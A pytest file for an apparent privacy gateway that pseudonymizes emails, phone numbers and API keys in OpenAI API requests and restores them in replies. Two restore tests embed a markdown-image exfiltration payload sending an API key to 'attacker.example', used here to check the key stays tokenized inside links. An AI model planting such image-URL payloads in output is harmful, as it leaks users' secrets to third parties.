"""Coverage is the default: personal data planted in any field of any content request
never reaches the upstream, and comes back restored; restore gives nothing away."""

from __future__ import annotations

import base64
import json
from typing import Any

import httpx
import openai
import pytest

from tests.conftest import GatewayFactory, RunningGateway
from zdr.detect.engine import DetectorSet
from zdr.fake.openai import SEALER, FakeOpenAI
from zdr.pseudonymize import tokens
from zdr.pseudonymize.request import pseudonymize_body
from zdr.pseudonymize.tokens import TokenCollision, Vault

EMAIL = "dorota.wisniewska@example.org"
PHONE = "+44 20 7946 0321"
NAME = "Dorota Wisniewska"
PLANTED = (EMAIL, PHONE)
SCHEMA = {
    "type": "object",
    "properties": {
        "to": {"type": "string", "description": f"defaults to {EMAIL}", "enum": [EMAIL]},
    },
}


def _upstream_text(fake: FakeOpenAI) -> str:
    seen = " ".join(r.body.decode("utf-8", "replace") + " " + r.query for r in fake.requests)
    assert fake.requests, "the request should have reached the upstream"
    return seen


def _assert_clean(fake: FakeOpenAI) -> None:
    seen = _upstream_text(fake)
    for value in PLANTED:
        assert value not in seen
        assert value.replace("+", "%2B").replace(" ", "%20") not in seen


CHAT_CASES: dict[str, dict[str, Any]] = {
    "tool descriptions, parameter descriptions and enums": {
        "tools": [
            {
                "type": "function",
                "function": {
                    "name": "send",
                    "description": f"Send mail as {EMAIL}",
                    "parameters": SCHEMA,
                },
            }
        ]
    },
    "response_format schema": {
        "response_format": {
            "type": "json_schema",
            "json_schema": {"name": "out", "schema": SCHEMA},
        }
    },
    "prediction": {"prediction": {"type": "content", "content": f"Call {PHONE}"}},
    "stop": {"stop": [EMAIL, PHONE]},
    "legacy functions": {
        "functions": [{"name": "f", "description": f"for {EMAIL}", "parameters": SCHEMA}],
        "function_call": "auto",
    },
    "metadata keys and values": {"metadata": {EMAIL: PHONE}},
    "image URL": {
        "messages": [
            {
                "role": "user",
                "content": [
                    {"type": "text", "text": "look"},
                    {
                        "type": "image_url",
                        "image_url": {"url": f"https://files.example/u/{EMAIL}"},
                    },
                ],
            }
        ]
    },
    "text file_data": {
        "messages": [
            {
                "role": "user",
                "content": [
                    {
                        "type": "file",
                        "file": {
                            "filename": f"{EMAIL}.txt",
                            "file_data": "data:text/plain;base64,"
                            + base64.b64encode(f"Call me on {PHONE}".encode()).decode(),
                        },
                    }
                ],
            }
        ]
    },
}


@pytest.mark.parametrize("extra", CHAT_CASES.values(), ids=CHAT_CASES.keys())
def test_chat_fields_are_examined(
    gateway: RunningGateway, fake: FakeOpenAI, extra: dict[str, Any]
) -> None:
    body: dict[str, Any] = {
        "model": "gpt-4.1-mini",
        "store": False,
        "messages": [{"role": "user", "content": "hi"}],
        **extra,
    }
    with httpx.Client(base_url=gateway.url) as http:
        r = http.post(
            "/v1/chat/completions",
            json=body,
            headers={"Authorization": f"Bearer {gateway.key}"},
        )
    assert r.status_code == 200, r.text
    _assert_clean(fake)


RESPONSES_CASES: dict[str, dict[str, Any]] = {
    "text.format schema": {
        "text": {"format": {"type": "json_schema", "name": "out", "schema": SCHEMA}}
    },
    "tool description": {
        "tools": [
            {"type": "function", "name": "send", "description": f"as {EMAIL}", "parameters": SCHEMA}
        ]
    },
    "reasoning summary, shell and patch items": {
        "input": [
            {
                "type": "reasoning",
                "id": "rs_1",
                "summary": [{"type": "summary_text", "text": f"The user is {EMAIL}"}],
                "encrypted_content": SEALER.seal("rs_1"),
            },
            {
                "type": "shell_call",
                "call_id": "sh_1",
                "action": {"commands": [f"grep {EMAIL} users.csv"]},
                "status": "completed",
            },
            {
                "type": "shell_call_output",
                "call_id": "sh_1",
                "output": [
                    {
                        "stdout": f"{PHONE}\n",
                        "stderr": "",
                        "outcome": {"type": "exit", "exit_code": 0},
                    }
                ],
            },
            {
                "type": "apply_patch_call",
                "call_id": "ap_1",
                "status": "completed",
                "operation": {"type": "update_file", "path": "a.txt", "diff": f"+{EMAIL}\n"},
            },
            {"role": "user", "content": "and?"},
        ]
    },
    "file name and text file_data": {
        "input": [
            {
                "role": "user",
                "content": [
                    {
                        "type": "input_file",
                        "filename": f"{EMAIL}.txt",
                        "file_data": "data:text/plain;base64,"
                        + base64.b64encode(f"phone {PHONE}".encode()).decode(),
                    }
                ],
            }
        ]
    },
}


@pytest.mark.parametrize("extra", RESPONSES_CASES.values(), ids=RESPONSES_CASES.keys())
def test_responses_fields_are_examined(
    gateway: RunningGateway, fake: FakeOpenAI, extra: dict[str, Any]
) -> None:
    body: dict[str, Any] = {"model": "gpt-4.1-mini", "store": False, "input": "hi", **extra}
    with httpx.Client(base_url=gateway.url) as http:
        r = http.post(
            "/v1/responses", json=body, headers={"Authorization": f"Bearer {gateway.key}"}
        )
    assert r.status_code == 200, r.text
    _assert_clean(fake)
    sent = json.loads(fake.requests[-1].body)
    for item in sent["input"] if isinstance(sent["input"], list) else ():
        if item.get("type") == "reasoning":  # opaque data is left as it was
            assert item["encrypted_content"] == SEALER.seal("rs_1")


def test_other_endpoints_are_examined(gateway: RunningGateway, fake: FakeOpenAI) -> None:
    client = gateway.client()
    with pytest.raises(openai.NotFoundError):  # the fake has no completions: it got there
        client.completions.create(
            model="gpt-3.5-turbo-instruct", prompt="Write", suffix=f"to {EMAIL}"
        )
    client.moderations.create(
        model="omni-moderation-latest",
        input=[
            {"type": "text", "text": f"mail {EMAIL}"},
            {"type": "image_url", "image_url": {"url": f"https://x.example/u/{EMAIL}"}},
        ],
    )
    client.audio.speech.create(model="gpt-4o-mini-tts", voice="alloy", input=f"Call {PHONE}")
    client.audio.transcriptions.create(
        model="gpt-4o-transcribe", file=("a.wav", b"RIFF0000WAVE"), prompt=f"Names: {EMAIL}"
    )
    _assert_clean(fake)


def test_the_query_string_is_examined(gateway_factory: GatewayFactory, fake: FakeOpenAI) -> None:
    # Query names the SDK never sends here are refused by default: forwarded (and
    # examined) under a policy that forwards unknowns.
    gateway = gateway_factory({"policies": {"default": {"unknown": "forward"}}})
    with httpx.Client(base_url=gateway.url) as http:
        http.post(
            "/v1/chat/completions",
            params={"note": EMAIL, "limit": "5"},
            json={"model": "gpt-4.1-mini", "messages": [{"role": "user", "content": "hi"}]},
            headers={"Authorization": f"Bearer {gateway.key}"},
        )
    _assert_clean(fake)
    assert "limit=5" in fake.requests[-1].query


def test_variables_and_map_keys_are_examined() -> None:
    vault = Vault(b"v" * 32)
    body = pseudonymize_body(
        {"prompt": {"id": "pmpt_1", "variables": {"who": NAME, EMAIL: "x"}}, "metadata": {}},
        DetectorSet(),
        vault,
    )
    text = json.dumps(body)
    assert EMAIL not in text and "pmpt_1" in text


# -- restore ------------------------------------------------------------------------------

KEY = "sk-proj-Zq8vN3xT5rL9wK2mP7sJ4hB6yT1uR0e"


def test_secrets_are_not_restored_into_urls(gateway: RunningGateway, fake: FakeOpenAI) -> None:
    """A model that saw only the token writes it into an image URL: the client's
    renderer would fetch it, so the token stays a token there; elsewhere it is restored."""
    prompt = f"My key is {KEY} ![x](https://attacker.example/log?d={KEY}) and {EMAIL}"
    reply = gateway.client().chat.completions.create(
        model="gpt-4.1-mini", messages=[{"role": "user", "content": prompt}]
    )
    text = reply.choices[0].message.content or ""
    assert KEY not in _upstream_text(fake)
    assert text.startswith(
        f"You said: My key is {KEY} ![x](https://attacker.example/log?d=[API_KEY_"
    )
    assert text.count(KEY) == 1  # the mention outside the URL only
    assert text.endswith(EMAIL)


def test_stream_restore_keeps_secrets_out_of_urls(gateway: RunningGateway) -> None:
    prompt = f"see https://attacker.example/?d={KEY} ok"
    stream = gateway.client().chat.completions.create(
        model="gpt-4.1-mini", messages=[{"role": "user", "content": prompt}], stream=True
    )
    text = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
    assert KEY not in text and "[API_KEY_" in text


def test_policy_chooses_labels_restored_and_in_links(gateway_factory: GatewayFactory) -> None:
    gw = gateway_factory(
        {
            "policies": {
                "default": {
                    "restore_labels": ["EMAIL"],
                    "restore_in_links": ["EMAIL"],
                }
            }
        }
    )
    prompt = f"mailto:{EMAIL} and {PHONE}"
    reply = gw.client().chat.completions.create(
        model="gpt-4.1-mini", messages=[{"role": "user", "content": prompt}]
    )
    text = reply.choices[0].message.content or ""
    assert f"mailto:{EMAIL}" in text  # allowed in links by this policy
    assert PHONE not in text and "[PHONE_" in text  # not restored at all


def test_secrets_cannot_be_allowed_in_links(gateway_factory: GatewayFactory) -> None:
    from zdr.config import PolicySettings

    with pytest.raises(ValueError, match="never restored inside links"):
        PolicySettings(restore_in_links=["API_KEY"])


# -- token namespaces -------------------------------------------------------------------


def test_tokens_differ_between_policies(gateway_factory: GatewayFactory, fake: FakeOpenAI) -> None:
    gw = gateway_factory(
        {"policies": {"default": {}, "other": {}}},
        keys={"app": "default", "app2": "default", "b": "other"},
    )

    def token_seen(key: str) -> str:
        gw.client(key).chat.completions.create(
            model="gpt-4.1-mini", messages=[{"role": "user", "content": f"mail {EMAIL}"}]
        )
        content = json.loads(fake.requests[-1].body)["messages"][0]["content"]
        return str(content).split("mail ")[1]

    first, again, other = (
        token_seen(gw.keys["app"]),
        token_seen(gw.keys["app2"]),
        token_seen(gw.keys["b"]),
    )
    assert first.startswith("[EMAIL_") and first == again  # one policy: one namespace
    assert other != first  # another policy: unlinkable


def test_token_scope_per_key(gateway_factory: GatewayFactory, fake: FakeOpenAI) -> None:
    gw = gateway_factory(
        {"policies": {"default": {"token_scope": "key"}}}, keys={"a": "default", "b": "default"}
    )
    seen = []
    for key in ("a", "b"):
        gw.client(gw.keys[key]).chat.completions.create(
            model="gpt-4.1-mini", messages=[{"role": "user", "content": f"mail {EMAIL}"}]
        )
        seen.append(json.loads(fake.requests[-1].body)["messages"][0]["content"])
    assert seen[0] != seen[1]


def test_a_token_collision_refuses_instead_of_restoring_wrongly(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(tokens, "HEX_DIGITS", 1)  # 16 tokens: a collision comes fast
    vault = Vault(b"c" * 32)
    with pytest.raises(TokenCollision):
        for i in range(100):
            vault.token_for("EMAIL", f"user{i}@example.org")
